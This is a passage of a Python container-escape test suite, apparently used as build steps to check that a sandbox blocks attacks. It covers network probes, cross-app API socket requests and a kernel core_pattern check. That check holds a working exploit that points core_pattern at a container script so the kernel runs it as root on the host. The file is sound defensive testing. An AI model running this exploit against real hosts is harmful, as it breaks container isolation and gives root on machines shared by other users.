    lls = sorted(set(_gateway_ll_from_arp(gw) + list(cfg.get("gateway_lls", []))))
    for port_kind in ("tcp", "api"):
        if port_kind not in ports:
            continue
        p = int(ports[port_kind])
        for a in hosts4:
            targets.append({"addr": a, "port": p})
        for a in lls:
            targets.append({"addr": a, "port": p, "scope": scope})
        for a in cfg.get("host_addrs6", []):
            targets.append({"addr": a, "port": p})
    results: Obs = {}
    threads = []

    def run(t: dict[str, Any]) -> None:
        key = f"tcp {t['addr']}{'%' + t['scope'] if t.get('scope') else ''} port {t['port']}"
        results[key] = _try_tcp(t, token, timeout)

    for t in targets:
        th = threading.Thread(target=run, args=(t,))
        th.start()
        threads.append(th)
    for th in threads:
        th.join()
    if "udp" in ports:
        u = int(ports["udp"])
        for a in hosts4 + list(cfg.get("host_addrs6", [])):
            results[f"udp {a} port {u}"] = _send_udp(a, u, None, token)
        for a in lls + ["ff02::1"]:
            results[f"udp {a}%{scope} port {u}"] = _send_udp(a, u, scope, token)
        bcast = cfg.get("broadcast4")
        for a in ([bcast] if bcast else []) + ["255.255.255.255"]:
            results[f"udp {a} port {u}"] = _send_udp(a, u, None, token)
    return {"gateway": gw, "gateway_lls": lls, "addrs4": _addrs4(), "results": results}


def check_network(obs: Obs) -> list[str]:
    # UDP is judged on the host (a datagram is "sent" whether or not it arrives).
    return [f"{k}: {r}" for k, r in obs.get("results", {}).items() if r.startswith("CONNECTED")]


# ------------------------------------------------------------------ the core_pattern escape

def probe_core_pattern(cfg: Cfg) -> Obs:
    """The attack review's exploit: a pipe core_pattern whose helper the kernel runs on
    the host as root. ``cfg["host_marker"]``: a host path the helper would write."""
    marker = cfg["host_marker"]
    script = f"#!/bin/sh\nid > /proc/$1/root/tmp/escape-core-out\necho pwned-from-container > {marker}\n"
    where = None
    for d in ("/", "/tmp", "/var/tmp"):
        p = os.path.join(d, "escape-x.sh")
        try:
            with open(p, "w") as f:
                f.write(script)
            os.chmod(p, 0o755)
            where = p
            break
        except OSError:
            continue
    obs: Obs = {"script": where}
    try:
        with open("/proc/sys/kernel/core_pattern") as f:
            before = f.read()
    except OSError as e:
        before = None
        obs["read"] = ename(e.errno or 0)
    try:
        with open("/proc/sys/kernel/core_pattern", "w") as f:
            f.write(f"|/proc/%P/root{where} %P")
        obs["write"] = "WRITTEN"
    except OSError as e:
        obs["write"] = ename(e.errno or 0)
    if obs["write"] == "WRITTEN":
        try:
            import resource

            resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
        pid = os.fork()
        if pid == 0:
            os.abort()
        os.waitpid(pid, 0)
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline and not os.path.exists("/tmp/escape-core-out"):
            time.sleep(0.05)
        if before is not None:
            try:
                with open("/proc/sys/kernel/core_pattern", "w") as f:
                    f.write(before)
            except OSError:
                pass
    try:
        with open("/tmp/escape-core-out") as f:
            obs["helper_ran"] = f.read().strip()
    except OSError:
        obs["helper_ran"] = None
    return obs


def check_core_pattern(obs: Obs) -> list[str]:
    bad = []
    if obs.get("write") not in DENIED_OR_ABSENT:
        bad.append(f"/proc/sys/kernel/core_pattern accepted a pipe helper ({obs.get('write')})")
    if obs.get("helper_ran"):
        bad.append(f"the kernel ran the container's script on the host: {obs['helper_ran']}")
    return bad


# ------------------------------------------------------------------ the container's API socket

API_SOCK = "/__flare/api.sock"


def _unix_request(method: str, path: str, body: bytes | None = None) -> tuple[int, str]:
    import http.client

    class Conn(http.client.HTTPConnection):
        def connect(self) -> None:
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.settimeout(10)
            self.sock.connect(API_SOCK)

    c = Conn("localhost", timeout=10)
    try:
        headers = {"Content-Type": "application/json"} if body is not None else {}
        c.request(method, path, body=body, headers=headers)
        r = c.getresponse()
        return r.status, r.read(4096).decode(errors="replace")
    except OSError as e:
        return -1, f"{type(e).__name__}: {e}"
    finally:
        c.close()


def _call_body() -> bytes:
    import base64
    import pickle

    args = base64.b64encode(pickle.dumps(((), {}), protocol=4)).decode()
    return json.dumps({"kind": "call", "inputs": [{"args": args}], "more": False, "wait_ms": 5000}).encode()


def probe_api_socket(cfg: Cfg) -> Obs:
    """What a container can do to another app through its API socket. cfg: "app_id",
    "call_id" (a finished call of that app), "running_call_id", "function_id" of the
    victim; "own_call_id": a call this container's own app made (allowed to read)."""
    a, c, rc, f = cfg["app_id"], cfg["call_id"], cfg["running_call_id"], cfg["function_id"]
    reqs = [
        # Calling an ephemeral app's function (only the own app's and deployed apps' are
        # callable): its result would be the victim's data, read as the attacker's own call.
        ("POST", f"/v1/functions/{f}/calls", _call_body()),
        ("GET", f"/v1/calls/{c}/outputs?after=-1&wait_ms=0", None),
        ("GET", f"/v1/calls/{c}", None),
        ("POST", f"/v1/calls/{rc}/cancel", b"{}"),
        ("POST", f"/v1/calls/{rc}/inputs", b'{"inputs": []}'),
        ("POST", f"/v1/apps/{a}/stop", b"{}"),
        ("POST", f"/v1/apps/{a}/heartbeat", b"{}"),
        ("POST", f"/v1/apps/{a}/functions", b'{"functions": []}'),
        ("POST", f"/v1/functions/{f}/autoscaler", b'{"min_containers": 5}'),
        ("GET", f"/v1/apps/{a}/logs?after=-1&wait_ms=0", None),
        ("GET", "/v1/apps", None),
        ("POST", "/v1/apps", b'{"name": "escape-from-container", "mode": "deployed"}'),
        ("GET", "/v1/containers", None),
        ("GET", "/v1/workers", None),
        ("GET", "/v1/images", None),
        ("POST", "/v1/images/build", b'{"base": {"type": "debian_slim"}, "layers": [{"type": "run_commands", "commands": ["true"]}]}'),
        ("POST", "/v1/blobs/missing", b'{"digests": []}'),
        ("POST", "/v1/mounts", b'{"entries": []}'),
        # The fleet's memory snapshots (other apps' memory): workers only.
        ("GET", f"/v1/snapshots/{'0' * 64}", None),
        ("PUT", f"/v1/snapshots/{'0' * 64}", json.dumps({"key": "0" * 64, "manifest": "0" * 64}).encode()),
        ("DELETE", f"/v1/snapshots/{'0' * 64}", b"{}"),
        ("POST", "/v1/snapshots/blobs/missing", b'{"digests": []}'),
        # Proxy auth tokens: made, listed and deleted by clients only.
        ("POST", "/v1/proxy-auth-tokens", b'{"name": "from-a-container"}'),
        ("GET", "/v1/proxy-auth-tokens", None),
        ("DELETE", "/v1/proxy-auth-tokens/wk-00000000000000000000", b"{}"),
    ]
    out: Obs = {}
    for method, path, body in reqs:
        status, text = _unix_request(method, path, body)
        out[f"{method} {path}"] = {"status": status, "body": text[:300]}
    # Control: the socket itself works (a refusal above is the scoping, not a dead socket).
    status, text = _unix_request("GET", "/v1/health")
    out["control: GET /v1/health"] = {"status": status, "body": text[:100]}
    own = cfg.get("own_call_id")
    if own:
        status, text = _unix_request("GET", f"/v1/calls/{own}/outputs?after=-1&wait_ms=0")
        out["own call outputs"] = {"status": status, "body": text[:100]}
    return out


def check_api_socket(obs: Obs, secret: str = "") -> list[str]:
    bad = []
    for k, r in obs.items():
        if k == "control: GET /v1/health":
            if r["status"] != 200:
                bad.append(f"the container's API socket does not answer at all ({r}): the test proves nothing")
            continue
        if k == "own call outputs":
            continue
        if r["status"] not in (403, 404, 405):
            bad.append(f"{k}: {r['status']} {r['body'][:120]}")
        elif secret and secret in r["body"]:
            bad.append(f"{k}: the victim's secret is in the answer")
    return bad


def assert_dir_clean(path: str, names: list[str]) -> None:
    """A run_function build step: fails if any of ``names`` is in ``path``."""
    try:
        present = sorted(set(os.listdir(path)) & set(names))
    except OSError:
        present = []
    if present:
        raise AssertionError(f"ESCAPE: {path} holds {present}")
    print(f"CLEAN {path}", flush=True)


# ------------------------------------------------------------------ batches (build steps)

PROBES: dict[str, Callable[[Cfg], Obs]] = {
    "proc_sys_writes": probe_proc_sys_writes,
    "proc_misc_writes": probe_proc_misc_writes,
    "sys_writes": probe_sys_writes,
    "masked_reads": probe_masked_reads,
    "syscalls": probe_syscalls,
    "capabilities": probe_capabilities,
    "userns": probe_userns,
    "host_files": probe_host_files,
    "network": probe_network,
    "core_pattern": probe_core_pattern,
    "api_socket": probe_api_socket,
    "devices": probe_devices,
}
CHECKS: dict[str, Callable[[Obs], list[str]]] = {
    "proc_sys_writes": check_proc_sys_writes,
    "proc_misc_writes": check_proc_misc_writes,
    "sys_writes": check_sys_writes,
    "masked_reads": check_masked_reads,
    "syscalls": check_syscalls,
    "capabilities": check_capabilities,
    "userns": check_userns,
    "network": check_network,
    "core_pattern": check_core_pattern,
    "api_socket": check_api_socket,
    "devices": check_devices,
}
BATCHES = {
    "kernel": ["proc_sys_writes", "proc_misc_writes", "sys_writes", "masked_reads", "syscalls", "capabilities", "userns", "devices"],
    "host": ["host_files", "network"],
    "core_pattern": ["core_pattern"],
}


def run_probes(names: list[str], cfg: Cfg) -> dict[str, Obs]:
    out: dict[str, Obs] = {}
    for n in names:
        try:
            out[n] = PROBES[n](cfg.get(n, {}))
        except Exception as e:  # noqa: BLE001
            out[n] = {"probe_error": f"{type(e).__name__}: {e}"}
    return out


def problems(name: str, obs: Obs, cfg: Cfg | None = None) -> list[str]:
    if "probe_error" in obs:
        return [f"probe failed: {obs['probe_error']}"]
    if name == "host_files":
        return check_host_files(obs, (cfg or {}).get("host_files", {}).get("secret_hashes"))
    return CHECKS[name](obs)


def build_batch(batch: str, cfg: Cfg, report_path: str = "/escape-report.json", exit_code: bool = True) -> None:
    """A build step: runs the batch, writes the report into the layer and fails loudly
    (non-zero exit, each escape on its own line) when any attack got through."""
    res = run_probes(BATCHES[batch], cfg)
    bad = [f"ESCAPE [{n}] {p}" for n, obs in res.items() for p in problems(n, obs, cfg)]
    with open(report_path, "w") as f:
        json.dump({"results": res, "problems": bad}, f)
    for line in bad:
        print(line, flush=True)
    print(f"escape batch {batch}: {len(bad)} attack(s) got through", flush=True)
    if bad:
        if exit_code:
            raise SystemExit(1)
        raise AssertionError("; ".join(bad))


if __name__ == "__main__":
    build_batch(sys.argv[1], json.loads(sys.argv[2]) if len(sys.argv) > 2 else {})
